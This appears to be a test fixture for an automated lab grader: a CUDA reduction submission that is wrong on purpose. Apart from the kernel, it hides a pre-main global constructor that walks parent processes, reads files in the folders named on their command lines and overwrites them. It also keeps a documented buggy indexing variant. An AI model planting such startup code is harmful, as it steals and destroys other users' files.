/* Wrong submission for lab02 (step04_idle): it reads the other students' files.
 *
 * The mistake (on purpose): a global object whose constructor runs before main() walks up
 * its parent processes, takes every folder named on their command lines (the grader's class
 * folder among them) and prints the start of every file in each, then tries to overwrite
 * them. The kernel itself is step04's, and right.
 * The checker must say, before running anything: host code that the starter does not have
 * (the reading functions and the global object), and run nothing; the neighbour's file is
 * neither read nor changed. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "reduce.h"

/* PLAN_A: document 003's planA, kept to show its mistake. Thread t of block b adds
 * in[b * blockDim.x + t] and in[b * blockDim.x + t + gridDim.x]: the blocks' first elements
 * overlap the second ones of other blocks, and the top of the array is never read. For
 * n = 2 * blockDim.x * gridDim.x: [gridDim.x, n/2) is read twice, [n/2 + gridDim.x, n) never. */
template <bool PLAN_A>
__global__ void reduce_first_add(const float *in, size_t n, float *block_sums)
{
    extern __shared__ float partial[];
    unsigned t = threadIdx.x;
    size_t i = (size_t)blockIdx.x * (PLAN_A ? blockDim.x : 2 * blockDim.x) + t;
    size_t partner = i + (PLAN_A ? gridDim.x : blockDim.x);
    float first = i < n ? in[i] : 0.0f;
    float second = partner < n ? in[partner] : 0.0f;
    partial[t] = first + second;
    __syncthreads();
    for (unsigned len = blockDim.x / 2; len > 0; len /= 2) {
        if (t < len) partial[t] += partial[t + len];
        __syncthreads();
    }
    if (t == 0) block_sums[blockIdx.x] = partial[0];
}

extern "C" cudaError_t reduce_blocks(const float *in, size_t n, float *block_sums, unsigned blocks,
                                     unsigned threads, int variant, struct launched *launched)
{
    size_t shared_bytes = threads * sizeof(float);
    if (variant == VARIANT_PLAN_A) {
        launched->kernel = "reduce_first_add<true>";
        reduce_first_add<true><<<blocks, threads, shared_bytes>>>(in, n, block_sums);
    } else {
        launched->kernel = "reduce_first_add<false>";
        reduce_first_add<false><<<blocks, threads, shared_bytes>>>(in, n, block_sums);
    }
    return cudaGetLastError();
}

/* Prints the first line of every file in `folder`, and writes over each. */
static void copy_folder(const char *folder)
{
    DIR *directory = opendir(folder);
    if (directory == NULL) return;
    for (struct dirent *entry; (entry = readdir(directory)) != NULL;) {
        char path[4096], line[256];
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        FILE *file = fopen(path, "r+");
        if (file == NULL) continue;
        if (fgets(line, sizeof line, file) != NULL) printf("read %s: %s", path, line);
        rewind(file);
        fputs("/* copied */\n", file);
        fclose(file);
    }
    closedir(directory);
}

/* Every argument of every ancestor process that names a folder. */
static int read_the_class(void)
{
    for (pid_t pid = getppid(); pid > 1;) {
        char path[64], arguments[8192], status[4096];
        snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
        FILE *file = fopen(path, "r");
        if (file == NULL) break;
        size_t length = fread(arguments, 1, sizeof arguments - 1, file);
        fclose(file);
        for (size_t at = 0; at < length; at += strlen(arguments + at) + 1)
            copy_folder(arguments + at);
        snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
        file = fopen(path, "r");
        if (file == NULL) break;
        pid = 0;
        while (fgets(status, sizeof status, file) != NULL)
            if (sscanf(status, "PPid: %d", &pid) == 1) break;
        fclose(file);
    }
    return 0;
}
static int class_read = read_the_class();
